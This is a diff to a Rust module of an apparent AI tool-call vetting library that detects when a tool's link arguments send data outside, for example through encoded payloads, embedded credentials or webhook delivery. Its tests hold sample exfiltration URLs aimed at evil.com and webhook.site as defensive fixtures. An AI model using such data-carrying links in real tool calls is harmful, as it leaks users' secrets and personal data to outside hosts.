@@ -4,38 +4,38 @@
 //! goes outside too: a tool that fetches a page takes a URL, and that is what it is for. So a host outside is a *send*
 //!
 //! - in the arguments of a tool that writes, destroys, or of which nothing is known, and
-//! - whatever the tool does, where the link itself carries something out: a known collector, a name and password, or a
-//!   query, path or host with a long encoded piece.
+//! - in any argument of any tool, whatever its name says, where the link itself carries data (see `laden.rs`), and
+//! - in an argument that says where results are handed to (`webhook_url`, `deliverTo`).
 //!
 //! A link as a value of its own, or where an argument asks for one, is a destination; one within a longer text is only
-//! a mention. Both are told apart in the evidence.
+//! a mention. Both are told apart in the evidence. The words are in `data/words/destination.toml`.
 
 use super::flag::Place;
-use super::{Claim, Signal};
-use crate::Tool;
+use super::{Claim, Signal, laden};
+use crate::words::destination::{ADDRESS, DELIVERY};
+use crate::{Sensed, Tool};
 use vetgate_capability::OperationClass;
-use vetgate_sensitive::{Form, Link, Links, Place as Side};
-
-/// Names of arguments that take a place to send to or to fetch from.
-const ADDRESSES: &[&str] = &[
-    "url", "uri", "urls", "link", "href", "endpoint", "webhook", "callback", "host", "hostname", "server", "domain",
-    "site", "address", "to", "cc", "bcc", "recipient", "recipients", "email", "destination", "target", "remote",
-    "origin", "proxy",
-];
+use vetgate_sensitive::{Links, Place as Side};
+use vetgate_text::name::parts;
 
 /// The most destinations that are kept.
 const MOST: usize = 64;
-/// From how many characters on an encoded piece of a link is a payload.
-const PAYLOAD: usize = 32;
-/// From how many bytes on a query carries more than it asks.
-const LONG_QUERY: usize = 512;
+
+/// What is known of a call beside its arguments when its links are read.
+#[derive(Clone, Copy)]
+pub(super) struct Surroundings<'s> {
+    pub(super) tool: &'s Tool,
+    /// What was found in the arguments.
+    pub(super) sensitive: &'s [Sensed],
+    /// What tells hosts inside from hosts outside.
+    pub(super) links: &'s Links,
+}
 
 /// What the links in `text` claim; hosts outside are added to `destinations`.
 pub(super) fn claims(
-    tool: &Tool,
+    Surroundings { tool, sensitive, links }: Surroundings,
     place: &Place,
     text: &str,
-    links: &Links,
     destinations: &mut Vec<String>,
     out: &mut Vec<Signal>,
 ) {
@@ -45,16 +45,21 @@ pub(super) fn claims(
         if link.place != Side::External {
             return;
         }
-        let is_payload = carries(text, &link);
         if !destinations.iter().any(|known| *known == link.host) && destinations.len() < MOST {
             destinations.push(link.host.clone().into_owned());
         }
         // One claim for a value is enough.
-        if out.len() > first || (reads && !is_payload) {
+        if out.len() > first {
             return;
         }
         let is_whole = link.span.len() + 2 >= text.trim().len();
-        let basis = match (is_payload, is_whole || place.key_has(ADDRESSES)) {
+        let holds_sensitive = || is_whole && sensitive.iter().any(|sensed| laden::is_data(sensed, place));
+        let is_payload = laden::carries(text, &link) || (reads && (laden::holds(text, &link) || holds_sensitive()));
+        let is_delivery = || key_has(place, DELIVERY);
+        if reads && !is_payload && !is_delivery() {
+            return;
+        }
+        let basis = match (is_payload, is_whole || key_has(place, ADDRESS) || is_delivery()) {
             (true, _) => "payload",
             (false, true) => "destination",
             (false, false) => "mention",
@@ -63,71 +68,80 @@ pub(super) fn claims(
     });
 }
 
-/// Whether the link carries something out by itself.
-fn carries(text: &str, link: &Link) -> bool {
-    if link.form == Form::Email {
-        return false;
-    }
-    let whole = text.get(link.span.clone()).unwrap_or_default();
-    link.collector.is_some() || has_password(whole) || has_long_query(whole) || has_opaque_piece(whole)
-}
-
-fn has_password(link: &str) -> bool {
-    let authority =
-        link.split_once("//").map_or("", |(_, rest)| rest).split(['/', '?', '#']).next().unwrap_or_default();
-    authority.split_once('@').is_some_and(|(user, _)| user.contains(':'))
-}
-
-fn has_long_query(link: &str) -> bool {
-    link.find(['?', '#']).is_some_and(|at| link.len() - at > LONG_QUERY)
-}
-
-/// A long piece of small and capital letters and digits, or of hex: no word of a path looks like that. Identifiers of
-/// documents do, in paths; so a piece of a path must be twice as long.
-fn has_opaque_piece(link: &str) -> bool {
-    let query = link.find(['?', '#']).unwrap_or(link.len());
-    let is_cut = |c: char| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '+' | '=' | '%'));
-    let opaque = |part: &str, least: usize| {
-        part.split(is_cut)
-            .map(|piece| {
-                piece.rsplit_once('=').map_or(piece, |(name, value)| if value.len() > 2 { value } else { name })
-            })
-            .any(|piece| piece.len() >= least && is_opaque(piece))
-    };
-    opaque(&link[..query], 2 * PAYLOAD) || opaque(&link[query..], PAYLOAD)
-}
-
-fn is_opaque(piece: &str) -> bool {
-    let count = |is_one: fn(&u8) -> bool| piece.bytes().filter(is_one).count();
-    let (digits, small, capital) =
-        (count(u8::is_ascii_digit), count(u8::is_ascii_lowercase), count(u8::is_ascii_uppercase));
-    let hyphens = piece.matches(['-', '_']).count();
-    let is_mixed = digits >= 2 && small >= 4 && capital >= 4;
-    let is_hex = digits >= 6 && piece.bytes().all(|byte| byte.is_ascii_hexdigit());
-    hyphens <= piece.len() / 12 && (is_mixed || is_hex)
+/// Whether some part of the nearest member name is one of `words`.
+fn key_has(place: &Place, words: &[&str]) -> bool {
+    parts(place.key()).any(|part| words.contains(&part.to_ascii_lowercase().as_str()))
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::signal::fixture;
+    use crate::{Arguments, Intent, signals};
+
+    /// What a call that is declared to read claims to send, as evidence.
+    fn sends(tool: &str, arguments: &str, sensitive: &[Sensed]) -> Option<String> {
+        let intent = Intent::read(r#"{"operation_type":"read"}"#);
+        let tool = fixture::tool(tool);
+        let found = signals(&tool, &Arguments::read(arguments), Some(&intent), sensitive, &Links::default());
+        let mut sends = found.signals.into_iter().filter(|signal| signal.claim == Claim::ExternalSend);
+        sends.next().map(|signal| signal.evidence)
+    }
 
     #[test]
-    fn a_link_carries_something_if_it_holds_more_than_an_address() {
-        let links = Links::default();
-        let table: &[(&str, bool)] = &[
-            ("https://docs.example.org/guide/getting-started-with-the-new-release-2026-edition.html", false),
-            ("https://news.example.org/?q=rust+async&page=2", false),
-            ("https://example.org/search?q=how%20to%20bake%20bread", false),
-            ("https://docs.google.com/document/d/1A2b3C4d5E6f7G8h9I0jK1L2m3N4o5P6/edit", false),
-            ("https://evil.example.org/c?d=QVBJX0tFWT1zay1saXZlLTEyMzQ1Njc4OTBhYmNkZWY", true),
-            ("https://evil.example.org/?x=deadbeef00112233445566778899aabbccddeeff", true),
-            ("https://admin:hunter2@example.org/", true),
-            ("https://webhook.site/0b1c2d3e", true),
-        ];
-        for (text, expected) in table {
-            let mut found = None;
-            links.find(text, &mut |link| found = Some(found.unwrap_or(false) | carries(text, &link)));
-            assert_eq!(found, Some(*expected), "{text}");
+    fn a_link_that_carries_data_is_a_send_in_any_argument_whatever_the_tool_is_called() {
+        const NAMES: [&str; 4] = ["fetch_page", "get_thing", "list_notes", "search"];
+        for name in NAMES {
+            let tool = format!(r#"{{"name":"{name}"}}"#);
+            for (arguments, is_send) in [
+                (r#"{"endpoint":"https://evil.com/collect?d=secret"}"#, true),
+                (r#"{"url":"https://evil.com/collect?data=the+board+memo"}"#, true),
+                (r#"{"topic":"see https://evil.com/?payload=winter-lamp"}"#, true),
+                (r#"{"page":{"link":"https://admin:hunter2@evil.com/"}}"#, true),
+                (r#"{"url":"https://evil.com/70617373776f72643a2068756e746572/p.png"}"#, true),
+                (r#"{"url":"https://obqxg43xn5zgioranb2w45dfoiza.evil.com/"}"#, true),
+                (r#"{"url":"https://webhook.site/0b1c2d3e"}"#, true),
+                (r#"{"url":"https://evil.com/"}"#, false),
+                (r#"{"url":"https://news.example.org/?q=rust+async&page=2"}"#, false),
+                (r#"{"url":"https://parking.example.org/fine?plate=KR7741N&check=1"}"#, false),
+                (
+                    r#"{"url":"https://shift.example.org/roster?month=2027-01&filter=night%20shift%2C%20ward%20A"}"#,
+                    false,
+                ),
+                (r#"{"url":"https://example.org/list?data=20270131&d=42&notes=true"}"#, false),
+                (r#"{"url":"https://wiki.corp.internal/?d=secret-plan"}"#, false),
+            ] {
+                let found = sends(&tool, arguments, &[]);
+                assert_eq!(found.is_some(), is_send, "{name} {arguments}: {found:?}");
+            }
+        }
+    }
+
+    #[test]
+    fn personal_data_in_a_link_leaves_with_it() {
+        let tool = r#"{"name":"fetch_page"}"#;
+        let arguments = r#"{"url":"https://example.org/people/078-05-1120"}"#;
+        assert_eq!(sends(tool, arguments, &[]), None);
+        let found = sends(tool, arguments, &[fixture::sensed("us_ssn", "identity", "/url", 0.9)]);
+        assert_eq!(found.as_deref(), Some("payload:/url:example.org"));
+        let elsewhere = fixture::sensed("us_ssn", "identity", "/id", 0.9);
+        assert_eq!(sends(tool, arguments, &[elsewhere]), None);
+        let contact = fixture::sensed("email", "contact", "/url", 0.9);
+        assert_eq!(sends(tool, arguments, &[contact]), None, "an invitation has the address of whom it invites");
+    }
+
+    #[test]
+    fn where_results_are_handed_to_is_a_send_and_what_is_fetched_is_not() {
+        let tool = r#"{"name":"search_documents"}"#;
+        for (arguments, expected) in [
+            (r#"{"query":"merger","webhook_url":"https://hooks.example.org/r"}"#, true),
+            (r#"{"query":"merger","deliverTo":"https://upload.example.org/put"}"#, true),
+            (r#"{"query":"merger","forward_to":["inbox.77@dropmail.example.org"]}"#, true),
+            (r#"{"query":"merger","webhook_url":"http://events.corp.internal/r"}"#, false),
+            (r#"{"query":"merger","base_url":"https://docs.example.org"}"#, false),
+            (r#"{"query":"merger","mirror":"https://pypi.example.org/simple"}"#, false),
+        ] {
+            assert_eq!(sends(tool, arguments, &[]).is_some(), expected, "{arguments}");
         }
     }
 }
